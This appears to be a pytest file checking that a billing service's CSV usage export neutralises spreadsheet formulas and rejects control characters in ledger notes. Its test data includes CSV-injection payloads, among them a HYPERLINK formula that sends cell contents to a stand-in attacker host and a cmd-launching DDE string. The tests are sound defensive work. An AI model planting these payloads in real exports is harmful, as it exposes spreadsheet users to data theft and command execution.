"""The usage CSV holds no live formula and reads back whole; a ledger note with a control character is refused.

A note such as =HYPERLINK("http://evil.example/?"&A1,"invoice") reached GET /v1/usage?format=csv, the console's
download and `infery usage --csv` as a formula a spreadsheet would run; a note that began with a carriage return was
written unquoted and broke Python's own csv.reader. The rule (OWASP's): a text cell that starts with = + - @, a tab
or a carriage return gets a single quote in front; numbers stay numbers, so a reservation's -5 credits still add up.
"""

from __future__ import annotations

import csv
import io

import pytest
from infery.adapters.credit_store import CreditStore
from infery.domain.keys import ApiKeyItem
from infery.domain.ledger import LedgerEntry, LedgerKind, check_note
from infery.usecases.usage import CSV_COLUMNS, csv_cell, ledger_csv

KEY_ID = "key_0123456789abcdef"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"invoice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\r\n=2+2",
    "-5",  # text that looks like a number is still text in the note column
]


def entry(kind: LedgerKind, credits: int, balance_after: int, note: str | None = None, **fields) -> LedgerEntry:
    return LedgerEntry(
        key_id=KEY_ID,
        entry_id=f"req-1#{kind.value}",
        kind=kind,
        request_id=fields.pop("request_id", "req-1"),
        credits=credits,
        balance_after=balance_after,
        note=note,
        created_at="2026-11-03T10:00:00.000+00:00",
        **fields,
    )


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("note", FORMULAS)
def test_a_note_a_spreadsheet_would_run_is_written_behind_a_quote_and_reads_back_whole(note):
    text = ledger_csv([entry(LedgerKind.TOPUP, 10, 10, note=note)])
    (row,) = rows(text)
    assert row["note"] == "'" + note  # what csv.reader gives back is the cell as written, nothing lost or split
    assert set(row) == set(CSV_COLUMNS)
    assert (row["credits"], row["balance_after"]) == ("10", "10")


@pytest.mark.parametrize("note", ["\rinvoice 17", "invoice\r17", "a\r\nb", "a\nb", 'say "hi", then\rgo'])
def test_a_note_with_a_carriage_return_is_quoted_and_every_row_reads_back(note):
    entries = [
        entry(LedgerKind.TOPUP, 10, 10, note=note, request_id="topup-1"),
        entry(LedgerKind.RESERVE, -5, 5, model="whisper-1"),
    ]
    read = rows(ledger_csv(entries))
    assert len(read) == 2
    assert read[0]["note"].removeprefix("'") == note
    assert (read[1]["kind"], read[1]["credits"], read[1]["note"]) == ("reserve", "-5", "")


def test_negative_numbers_stay_numbers_so_the_credits_still_add_up():
    entries = [
        entry(LedgerKind.TOPUP, 10, 10, request_id="topup-1"),
        entry(LedgerKind.RESERVE, -5, 5, model="whisper-1"),
        entry(LedgerKind.SETTLE, -2, 3, model="whisper-1", audio_seconds=31.5, billed_credits=7, unpaid_credits=1),
    ]
    read = rows(ledger_csv(entries))
    assert [row["credits"] for row in read] == ["10", "-5", "-2"]
    assert sum(int(row["credits"]) for row in read) == 3 == int(read[-1]["balance_after"])
    assert (read[2]["audio_seconds"], read[2]["billed_credits"], read[2]["unpaid_credits"]) == ("31.5", "7", "1")


def test_the_rule_is_for_text_cells_not_numbers():
    assert csv_cell(-5) == -5 and csv_cell(-0.5) == -0.5 and csv_cell(None) == ""
    assert csv_cell("-5") == "'-5" and csv_cell("=A1") == "'=A1" and csv_cell("invoice -5") == "invoice -5"
    assert csv_cell("whisper-1") == "whisper-1" and csv_cell("") == ""


def test_no_cell_of_the_export_starts_a_formula():
    entries = [entry(LedgerKind.TOPUP, 10, 10, note=note, request_id=f"topup-{i}") for i, note in enumerate(FORMULAS)]
    for row in rows(ledger_csv(entries)):
        for name, value in row.items():
            if name not in ("credits", "balance_after"):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


# --- notes come in without control characters ------------------------------------------------------------------


@pytest.mark.parametrize("note", ["\rinvoice", "invoice\t17", "a\nb", "\x1b[31mred", "nul\x00", "c1\x85"])
def test_a_note_with_a_control_character_is_refused_with_which_one(note):
    with pytest.raises(ValueError, match=r"control character U\+00"):
        check_note(note)


@pytest.mark.parametrize("note", [None, "", "invoice 2026-11", "=HYPERLINK(1)", "Rechnung Nr. 17 – bezahlt", "請求書"])
def test_a_printable_note_is_accepted(note):
    check_note(note)  # the CSV export neutralises a formula; the note itself is the operator's to write


class _NoTable:
    """A DynamoDB client that must not be reached: a refused note changes nothing."""

    def __getattr__(self, name: str):
        raise AssertionError(f"the store called DynamoDB's {name} for a refused note")


def test_a_top_up_with_a_control_character_in_its_note_is_refused_before_anything_is_written():
    store = CreditStore(_NoTable(), "keys", "ledger", "reservations")
    key = ApiKeyItem.model_validate(
        {
            "key_hash": "0" * 64,
            "key_id": KEY_ID,
            "name": "acme",
            "prefix": "inf_abcd",
            "status": "active",
            "credits": 0,
            "created_at": "2026-11-01T00:00:00.000+00:00",
        }
    )
    with pytest.raises(ValueError, match="control character U\\+000D"):
        store.top_up(key, 5, request_id="topup-1", note="\r=HYPERLINK(1)")
